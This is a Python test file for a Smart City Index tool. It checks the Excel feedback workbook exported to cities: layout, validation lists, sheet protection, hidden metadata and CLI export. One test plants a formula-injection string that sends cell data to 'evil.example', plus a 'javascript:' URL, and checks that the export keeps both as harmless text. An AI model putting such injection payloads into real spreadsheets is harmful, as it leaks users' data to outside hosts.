"""The exported workbook: what a city sees, what it may edit, what the import relies on."""

from __future__ import annotations

import pandas as pd
from openpyxl import load_workbook
from typer.testing import CliRunner

from flows.cli import app
from normalize.feedback import WorkbookMeta
from normalize.feedback_store import check_workbook, read_exports
from normalize.feedback_workbook import HEADERS, _read_meta
from tests.research.conftest import DMS, EAKTE, HAMBURG, KIEL, MONTH, row_of, store_collected

runner = CliRunner()
INFO = "verwaltung.website.informationsgehalt"
PCT = "energie_umwelt.emissionsarme_busse.anteil"


def validation_of(ws, coordinate):
    found = [dv for dv in ws.data_validations.dataValidation if coordinate in dv.sqref]
    assert len(found) == 1, coordinate
    return found[0]


def test_layout(hamburg_workbook):
    wb = load_workbook(hamburg_workbook)
    assert wb.sheetnames == ["Rückmeldung", "Anleitung", "_sci_meta"]
    assert wb["_sci_meta"].sheet_state == "hidden"
    ws = wb["Rückmeldung"]
    assert (
        ws["A1"].value
        == "Smart City Index: Datenprüfung für Hamburg (AGS 02000000), Monat 2021-06, Katalog 2021.1"
    )
    assert tuple(c.value for c in ws[3]) == HEADERS
    assert ws.max_row == 3 + 106
    dms = [c.value for c in ws[4]]
    assert dms[:1] + dms[5:] == [
        DMS,
        "ja / nein",
        "nein",
        "nicht vorhanden",
        "Website der Stadt (city_sites)",
        "https://www.example-02000000.de/verwaltung",
        f"text found for {DMS}",
        None,
        None,
        None,
    ]
    assert ws["J4"].hyperlink.target == "https://www.example-02000000.de/verwaltung"
    epayment = [c.value for c in ws[6]]
    assert epayment[6:11] == [None, "nicht erhoben", None, None, None]


def test_validation_lists_and_protection(hamburg_workbook):
    ws = load_workbook(hamburg_workbook)["Rückmeldung"]
    assert validation_of(ws, "L4").formula1 == '"ja,nein,entfällt"'
    info = validation_of(ws, f"L{row_of(ws, INFO)}")
    assert (info.type, info.formula1, info.errorStyle) == ("list", '"0,1,2,3,entfällt"', "stop")
    pct = validation_of(ws, f"L{row_of(ws, PCT)}")
    assert (pct.type, pct.operator, pct.formula1) == ("decimal", "greaterThanOrEqual", "0")
    assert ws.protection.sheet is True
    for col in "ABCDEFGHIJK":
        assert ws[f"{col}4"].protection.locked is True, col
    for col in "LMN":
        assert ws[f"{col}4"].protection.locked is False, col
    assert ws.freeze_panes == "B4"


def test_metadata_and_export_log(hamburg_workbook, collected):
    meta, problems = _read_meta(load_workbook(hamburg_workbook)["_sci_meta"], "x")
    assert problems == []
    assert isinstance(meta, WorkbookMeta)
    assert (meta.city_ags, meta.city_name, meta.month, meta.catalog_version) == (
        HAMBURG,
        "Hamburg",
        MONTH,
        "2021.1",
    )
    assert meta.checksum == meta.compute_checksum()
    assert meta.rows[:2] == [
        (4, DMS, "nein", "absent", "city_sites"),
        (5, EAKTE, "nein", "absent", "city_sites"),
    ]
    assert meta.rows[2] == (6, "verwaltung.payment.epayment", "", "", "")
    log = read_exports(collected)
    assert list(log["workbook_id"]) == [meta.workbook_id]
    assert (log.iloc[0]["checksum"], log.iloc[0]["rows"], log.iloc[0]["file"]) == (
        meta.checksum,
        106,
        "hamburg.xlsx",
    )
    # an untouched workbook imports cleanly with no corrections
    meta2, corrections, warnings = check_workbook(hamburg_workbook, collected)
    assert (meta2.workbook_id, corrections, warnings) == (meta.workbook_id, [], [])


def test_hostile_text_stays_text(data_dir, cities, tmp_path):
    """A snippet from a crawled page that looks like a formula must not run in the city's Excel."""
    from normalize.evidence import make_evidence_id
    from normalize.feedback_store import export_workbook
    from normalize.storage import write_evidence, write_parameters
    from normalize.table import parameter_row

    ev = make_evidence_id("x")
    write_evidence(
        pd.DataFrame(
            [
                {
                    "evidence_id": ev,
                    "month": MONTH,
                    "city_ags": KIEL,
                    "parameter_id": DMS,
                    "value": 1.0,
                    "status": "present",
                    "url": "javascript:alert(1)",
                    "snippet": '=HYPERLINK("http://evil.example/?"&A1,"Klick")\x07',
                    "source": "city_sites",
                    "method": "crawl",
                    "items": [],
                }
            ]
        ),
        source="city_sites",
        month=MONTH,
        data_dir=data_dir,
    )
    write_parameters(
        pd.DataFrame(
            [
                parameter_row(
                    month=MONTH,
                    city_ags=KIEL,
                    parameter_id=DMS,
                    value=1,
                    status="present",
                    method="crawl",
                    source="city_sites",
                    evidence=[ev],
                )
            ]
        ),
        source="city_sites",
        month=MONTH,
        data_dir=data_dir,
    )
    kiel = next(c for c in cities if c.ags == KIEL)
    out = tmp_path / "kiel.xlsx"
    export_workbook(kiel, MONTH, out, data_dir)
    ws = load_workbook(out)["Rückmeldung"]
    assert ws["K4"].data_type == "s"
    assert ws["K4"].value == '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    assert ws["J4"].value == "javascript:alert(1)" and ws["J4"].hyperlink is None
    assert check_workbook(out, data_dir, cities=cities)[1] == []


def test_area_filter_and_cli(collected, cities_path, tmp_path):
    out = tmp_path / "hh-verwaltung.xlsx"
    result = runner.invoke(
        app,
        [
            "feedback",
            "export",
            "02000000",
            "--area",
            "verwaltung",
            "--month",
            MONTH,
            "--out",
            str(out),
            "--cities",
            str(cities_path),
        ],
        terminal_width=300,
    )
    assert result.exit_code == 0, result.output
    ws = load_workbook(out)["Rückmeldung"]
    assert ws.max_row == 3 + 29
    assert {ws.cell(row=r, column=1).value.split(".")[0] for r in range(4, ws.max_row + 1)} == {"verwaltung"}
    bad = runner.invoke(app, ["feedback", "export", "Hamburg", "--out", str(tmp_path / "x.csv")])
    assert bad.exit_code == 1 and "must be an .xlsx file" in bad.output
    bad = runner.invoke(
        app, ["feedback", "export", "Atlantis", "--out", str(out), "--cities", str(cities_path)]
    )
    assert bad.exit_code == 1 and "no city named 'Atlantis'" in bad.output


def test_export_without_data_warns(data_dir, cities_path, tmp_path):
    store_collected(data_dir, [(KIEL, DMS, 1, "present")])
    out = tmp_path / "hh.xlsx"
    result = runner.invoke(
        app,
        ["feedback", "export", "Hamburg", "--out", str(out), "--cities", str(cities_path)],
        terminal_width=300,
    )
    assert result.exit_code == 0, result.output
    assert "106 parameters (0 with a known value)" in result.output
    assert "warning: no values stored for 2021-06; the workbook shows none" in result.output
